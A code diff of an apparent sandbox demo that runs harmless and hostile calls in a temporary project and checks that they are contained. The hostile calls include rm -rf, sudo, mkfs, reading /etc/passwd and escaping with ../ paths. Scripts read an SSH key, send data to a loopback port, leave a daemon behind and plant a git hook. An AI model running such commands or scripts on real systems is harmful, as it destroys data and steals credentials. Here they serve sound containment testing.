@@ -1,47 +1,48 @@
-"""Legal and adversarial calls in a temporary project, each run for real and compared with what must become of it."""
+"""Shows the guard and the kernel at work: calls in a temporary project, each run for real and its outcome checked."""
 
 from __future__ import annotations
 
 import os
+import shutil
+import socket
+import subprocess
 import tempfile
+from signal import SIGKILL
+from time import monotonic, sleep
 
 from corral.config import SandboxConfig
-from corral.excerpt import one_line
 from corral.frozen import Record, frozen
 from corral.model import Call
 from corral.sandbox import Sandbox
-from corral.terminal import clip, columns, pad, visible
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
     from collections.abc import Iterator
+    from typing import Self
 
     from corral.result import SandboxResult
-    from corral.terminal import Terminal
 
 TIMEOUT_SECONDS = 0.5
 MAX_OUTPUT_BYTES = 2000
-# Each outcome's sign and colour; the word stands beside them.
-SHOWN = {
-    "ran": ("allow", "allow"),
-    "denied": ("deny", "deny"),
-    "timed out": ("stop", "ask"),
-    "truncated": ("stop", "ask"),
-}
+ALONE_SECONDS = 30  # for a script that runs without corral; against a machine where it hangs
+GONE_SECONDS = 30  # until a killed process is gone; against a machine that is busy
 FILES = {
     "notes.txt": "pears\napples\nquinces\n",
     "src/main.py": "print('The answer is', 6 * 7)\n",
     "src/flood.py": "for n in range(100_000):\n    print('line', n)\n",
-    "tests/test_answer.py": (
-        "import unittest\n\n\nclass Answer(unittest.TestCase):\n"
-        "    def test_it(self):\n        self.assertEqual(6 * 7, 42)\n"
-    ),
+    "src/linger.py": "import time\n\ntime.sleep(60)\n",
+    ".git/HEAD": "ref: refs/heads/main\n",
+    ".git/config": "[core]\n\trepositoryformatversion = 0\n",
+    ".git/hooks/README": "Programs that git runs.\n",
 }
+# Scripts look harmless to whoever judges the command that starts them.
+TRY = "import os, socket, subprocess, sys\n\ntry:\n    {code}\nexcept OSError as error:\n    sys.exit(error.strerror)\n"
+HOOK = ".git/hooks/pre-commit"
 
 
 @frozen
 class Case(Record):
-    """One call and what must become of it: `ran`, `timed out`, `truncated`, or `denied` by its group's axis."""
+    """One call and its expected outcome: `ran`, `timed out`, `truncated`, or `denied` by its group's axis."""
 
     group: str
     call: Call
@@ -50,8 +51,22 @@ class Case(Record):
 
 
 @frozen
+class Attempt(Record):
+    """A script that does harm at run time: what it tries, its code, and the words for its success.
+
+    Contained it must end with `exit_code`: 1 where the kernel refuses, 0 where it lets the script go on.
+    """
+
+    title: str
+    script: str
+    code: str
+    success: str
+    exit_code: int = 1
+
+
+@frozen
 class Outcome(Record):
-    """What became of a case."""
+    """The result of a case."""
 
     case: Case
     result: SandboxResult
@@ -75,20 +90,52 @@ class Outcome(Record):
 
     def to_dict(self) -> dict[str, object]:
         """Return the outcome as JSON-ready data."""
-        case, result = self.case, self.result
-        kept = ("exit_code", "denied", "timed_out", "truncated", "reason", "stdout_bytes", "killed")
-        return {
-            "group": case.group,
-            "call": case.call.argv if isinstance(case.call.argv, str) else list(case.call.argv),
-            "shell": case.call.shell,
-            "cwd": case.call.cwd,
-            "expected": case.expected,
-            "outcome": self.word,
-            "as_expected": self.as_expected,
-            "rules": [finding.rule for finding in result.verdict.findings],
-            **{name: getattr(result, name) for name in kept},
-            "duration_ms": round(result.duration_ms, 3),
-        }
+        case = self.case
+        return _told(case.group, case.call, self.result, case.expected, self.word, as_expected=self.as_expected)
+
+
+@frozen
+class Trial(Record):
+    """The result of an attempt: whether it succeeded without corral, and whether it succeeded contained."""
+
+    attempt: Attempt
+    result: SandboxResult
+    works_alone: bool
+    got_out: bool
+
+    @property
+    def word(self) -> str:
+        """What happened: the kernel held it, the guard denied it, or it got out."""
+        return "got out" if self.got_out else "denied" if self.result.denied else "held"
+
+    @property
+    def as_expected(self) -> bool:
+        """Whether the kernel held what works without it."""
+        return self.word == "held" and self.works_alone and self.result.exit_code == self.attempt.exit_code
+
+    def to_dict(self) -> dict[str, object]:
+        """Return the trial as JSON-ready data."""
+        call = Call(["python3", self.attempt.script])
+        told = _told("kernel", call, self.result, "held", self.word, as_expected=self.as_expected)
+        return told | {"attempt": self.attempt.title, "works_alone": self.works_alone}
+
+
+def _told(
+    group: str, call: Call, result: SandboxResult, expected: str, word: str, *, as_expected: bool
+) -> dict[str, object]:
+    kept = ("exit_code", "denied", "timed_out", "truncated", "reason", "stdout_bytes", "killed")
+    return {
+        "group": group,
+        "call": call.argv if isinstance(call.argv, str) else list(call.argv),
+        "shell": call.shell,
+        "cwd": call.cwd,
+        "expected": expected,
+        "outcome": word,
+        "as_expected": as_expected,
+        "rules": [finding.rule for finding in result.verdict.findings],
+        **{name: getattr(result, name) for name in kept},
+        "duration_ms": round(result.duration_ms, 3),
+    }
 
 
 def _shell(text: str) -> Call:
@@ -96,37 +143,32 @@ def _shell(text: str) -> Call:
 
 
 LEGAL = (
-    Case("legal", Call(["ls", "-la"]), "ran"),
     Case("legal", Call(["cat", "notes.txt"]), "ran"),
     Case("legal", Call(["grep", "-rn", "answer", "src"]), "ran"),
-    Case("legal", Call(["sort", "-o", "sorted.txt", "notes.txt"]), "ran"),
     Case("legal", Call(["python3", "src/main.py"]), "ran"),
-    Case("legal", Call(["python3", "-m", "unittest", "discover", "-s", "tests"]), "ran"),
     Case("legal", _shell("sort notes.txt | head -1 > first.txt"), "ran"),
     Case("legal", Call(["grep", "plums", "notes.txt"]), "ran", 1),
     Case("legal", Call(["no-such-program"]), "ran", 127),
 )
+# The first of each axis is shown with its reason.
 ADVERSARIAL = {
     "name": (
+        Call(["sudo", "ls"]),
         Call(["rm", "-rf", "src"]),
         Call(["/bin/rm", "notes.txt"]),
-        Call(["./tidy", "notes.txt"]),  # a link to /bin/rm
-        Call(["sudo", "ls"]),
-        Call(["mkfs.ext4", "disk.img"]),
+        Call(["./link-to-rm", "notes.txt"]),
         Call(["chmod", "-R", "777", "."]),
+        Call(["mkfs.ext4", "disk.img"]),
+        Call(["dd", "if=/dev/zero", "of=x"]),
         Call(["curl", "http://localhost:9/"]),
-        Call(["env", "-u", "HOME", "rm", "notes.txt"]),
         _shell("ls && { echo tidy; \\rm -rf src; }"),
     ),
     "argv": (
         Call(["python3", "-c", "print(1)"]),
-        Call(["python3", "-Ic", "print(1)"]),
         Call(["bash", "-lc", "ls"]),
-        Call(["node", "--eval=1"]),
+        Call(["node", "-e", "1"]),
         Call(["perl", "-ne", "print", "notes.txt"]),
-        Call(["python3", "-"]),
-        Call(["timeout", "5", "python3", "-c", "print(1)"]),
-        _shell("awk 'BEGIN { system(\"id\") }'"),
+        Call(["timeout", "5", "python3", "-Ic", "1"]),
         _shell("cat notes.txt | python3"),
     ),
     "structure": (
@@ -139,74 +181,155 @@ ADVERSARIAL = {
     ),
     "path": (
         Call(["cat", "../../../etc/passwd"]),
-        Call(["cat", "../outside.txt"]),
-        Call(["cat", "leak.txt"]),  # a link to ../outside.txt
+        Call(["cat", "link-outside.txt"]),
         Call(["grep", "--file=/etc/passwd", "notes.txt"]),
         Call(["cp", "notes.txt", "../stolen.txt"]),
-        Call(["ls", "~"]),
         Call(["ls"], cwd=".."),
         _shell("cd .. && ls"),
         _shell("echo x > ../planted.txt"),
     ),
 }
-LIMITS = (
-    Case("limits", Call(["sleep", "60"]), "timed out"),
-    Case("limits", _shell("sleep 60 & echo started; sleep 60"), "timed out"),
-    Case("limits", Call(["python3", "src/flood.py"]), "truncated"),
+GUARDED = (*LEGAL, *(Case(group, call) for group, calls in ADVERSARIAL.items() for call in calls))
+ATTEMPTS = (
+    Attempt("read ~/.ssh/id_ed25519", "src/report.py", "print(open({key!r}).read())", "read it"),
+    Attempt(
+        "send to a port outside",
+        "src/upload.py",
+        "socket.create_connection(('127.0.0.1', {port}), 10).sendall(b'stolen')",
+        "was heard",
+    ),
+    Attempt(
+        "leave a daemon",
+        "src/serve.py",
+        "subprocess.Popen([sys.executable, 'src/linger.py', {token!r}], start_new_session=True, "
+        "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
+        "still runs",
+        exit_code=0,
+    ),
+    Attempt("plant a git hook", "src/format.py", f"open({HOOK!r}, 'w').write('#!/bin/sh\\n')", "planted it"),
 )
-CASES = (*LEGAL, *(Case(group, call) for group, calls in ADVERSARIAL.items() for call in calls), *LIMITS)
+LIMITS = (
+    Case("limits", Call(["python3", "src/flood.py"]), "truncated"),
+    Case("limits", Call(["python3", "src/linger.py"]), "timed out"),
+)
+CASES = (*GUARDED, *ATTEMPTS, *LIMITS)
 
 
-def run_demo() -> Iterator[Outcome]:
-    """Make the project, run the battery in it, yield each outcome as it comes, and leave nothing behind."""
-    with tempfile.TemporaryDirectory(prefix="corral-demo-") as place:
-        root = os.path.join(place, "project")
-        _write(os.path.join(place, "outside.txt"), "nobody's business\n")
-        for name, text in FILES.items():
-            _write(os.path.join(root, name), text)
-        os.symlink("../outside.txt", os.path.join(root, "leak.txt"))
-        os.symlink("/bin/rm", os.path.join(root, "tidy"))
-        with Sandbox(config=SandboxConfig(root, max_output_bytes=MAX_OUTPUT_BYTES)) as box:
-            for case in CASES:
-                call, limit = case.call, TIMEOUT_SECONDS if case.expected == "timed out" else None
-                yield Outcome(case, box.run(call.argv, shell=call.shell, cwd=call.cwd, timeout_seconds=limit))
+class Stage:
+    """A temporary home with a key, a project, a copy of it for runs without corral, and a listener on loopback."""
+
+    def __enter__(self) -> Self:
+        self._directory = tempfile.mkdtemp(prefix="corral-demo-")
+        place = os.path.realpath(self._directory)
+        self.home, self.root, self.copy = (os.path.join(place, name) for name in ("home", "project", "copy"))
+        self.token = f"corral-demo-{os.urandom(8).hex()}"
+        self._key = os.path.join(self.home, ".ssh", "id_ed25519")
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self._listener.setblocking(False)
+        self._write(self._key, self.token)
+        self._write(os.path.join(place, "outside.txt"), "nobody's business\n")
+        known = {"key": self._key, "port": self._listener.getsockname()[1], "token": self.token}
+        scripts = {each.script: TRY.format(code=each.code.format(**known)) for each in ATTEMPTS}
+        for root in (self.root, self.copy):
+            for name, text in (FILES | scripts).items():
+                self._write(os.path.join(root, name), text)
+            os.symlink("../outside.txt", os.path.join(root, "link-outside.txt"))
+            os.symlink("/bin/rm", os.path.join(root, "link-to-rm"))
+        self._home_before = os.environ.get("HOME")
+        os.environ["HOME"] = self.home
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self.end_daemons()
+        self._listener.close()
+        if self._home_before is None:
+            del os.environ["HOME"]
+        else:
+            os.environ["HOME"] = self._home_before
+        shutil.rmtree(self._directory)
+
+    def _write(self, path: str, text: str) -> None:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w", encoding="utf-8") as file:
+            file.write(text)
+
+    def succeeded(self, attempt: Attempt, root: str, stdout: bytes) -> bool:
+        """Say whether an attempt in a project had its effect outside, by looking for the effect."""
+        if attempt.success == "read it":
+            return self.token.encode() in stdout
+        if attempt.success == "was heard":
+            return self._was_heard()
+        if attempt.success == "still runs":
+            return bool(self.daemons())
+        return os.path.lexists(os.path.join(root, HOOK))
+
+    def _was_heard(self) -> bool:
+        try:
+            self._listener.accept()[0].close()
+        except BlockingIOError:
+            return False
+        return True
+
+    def daemons(self) -> list[int]:
+        """Return the processes that carry the token, wherever they run on this machine."""
+        found = []
+        for entry in filter(str.isdecimal, os.listdir("/proc")):
+            try:
+                with open(f"/proc/{entry}/cmdline", "rb") as file:
+                    arguments = file.read().split(b"\0")
+            except OSError:
+                continue  # it has ended, or is another user's
+            if self.token.encode() in arguments:
+                found.append(int(entry))
+        return found
+
+    def end_daemons(self) -> None:
+        """Kill what an attempt left running, and wait until it is gone."""
+        give_up_at = monotonic() + GONE_SECONDS
+        while (left := self.daemons()) and monotonic() < give_up_at:
+            for pid in left:
+                try:
+                    os.kill(pid, SIGKILL)
+                except ProcessLookupError:
+                    continue
+            sleep(0.01)
 
 
-def _write(path: str, text: str) -> None:
-    os.makedirs(os.path.dirname(path), exist_ok=True)
-    with open(path, "w", encoding="utf-8") as file:
-        file.write(text)
+def run_demo() -> Iterator[Outcome | Trial]:
+    """Make the stage, run everything on it, yield each outcome as it comes, and leave nothing behind.
+
+    ContainmentError after the guard's half where this machine cannot contain.
+    """
+    with Stage() as stage:
+        config = SandboxConfig(stage.root, max_output_bytes=MAX_OUTPUT_BYTES)
+        with Sandbox(config=config) as box:
+            for case in GUARDED:
+                call = case.call
+                yield Outcome(case, box.run(call.argv, shell=call.shell, cwd=call.cwd))
+        # This profile runs nothing unless the kernel gives every layer.
+        with Sandbox(config=config.replace(profile="workspace", denylist=None)) as box:
+            for attempt in ATTEMPTS:
+                yield _tried(attempt, box, stage)
+            for case in LIMITS:
+                limit = TIMEOUT_SECONDS if case.expected == "timed out" else None
+                yield Outcome(case, box.run(case.call.argv, timeout_seconds=limit))
 
 
-def row_text(outcome: Outcome, terminal: Terminal) -> str:
-    """Return one row of the table; all rows of a terminal are aligned."""
-    cut = terminal.sign("cut")
-    width = max(columns(_call_text(case.call, terminal)) for case in CASES)
-    sign, style = SHOWN[outcome.word]
-    word = terminal.paint(style, pad(f"{terminal.sign(sign)} {outcome.word}", 11))
-    call = pad(_call_text(outcome.case.call, terminal), width)
-    detail = clip(visible(_detail(outcome)), max(terminal.columns - width - 17, 8), cut)
-    row = f"  {word}  {call}  {detail}".rstrip()
-    if outcome.as_expected:
-        return row
-    wanted = (
-        f"{outcome.case.expected} by {outcome.case.group}"
-        if outcome.case.expected == "denied"
-        else outcome.case.expected
-    )
-    return f"{row}\n{terminal.paint('deny', f'    unexpected: this must be {wanted}')}"
-
-
-def _call_text(call: Call, terminal: Terminal) -> str:
-    text = one_line(call, max(terminal.columns * 2 // 5, 12), terminal.sign("cut")) or "(nothing)"
-    return f"{text} (in {call.cwd})" if call.cwd else text
-
-
-def _detail(outcome: Outcome) -> str:
-    result = outcome.result
-    if outcome.word == "denied":
-        return result.reason
-    if outcome.word == "timed out":
-        return f"ended after {result.duration_ms / 1000:.1f} s"
-    kept = f", {len(result.stdout)} of them kept" if outcome.word == "truncated" else ""
-    return f"exit {result.exit_code}, {result.stdout_bytes} bytes{kept}"
+def _tried(attempt: Attempt, box: Sandbox, stage: Stage) -> Trial:
+    result = box.run(["python3", attempt.script])
+    got_out = stage.succeeded(attempt, stage.root, result.stdout)
+    stage.end_daemons()
+    # Without corral, so that nobody takes a script that does nothing for one that was held.
+    try:
+        alone = subprocess.run(
+            ["python3", attempt.script],  # noqa: S607  the same program that the sandbox finds
+            cwd=stage.copy,
+            capture_output=True,
+            timeout=ALONE_SECONDS,
+            check=False,
+        ).stdout
+    except (OSError, subprocess.TimeoutExpired):
+        alone = b""
+    works_alone = stage.succeeded(attempt, stage.copy, alone)
+    stage.end_daemons()
+    return Trial(attempt, result, works_alone, got_out)
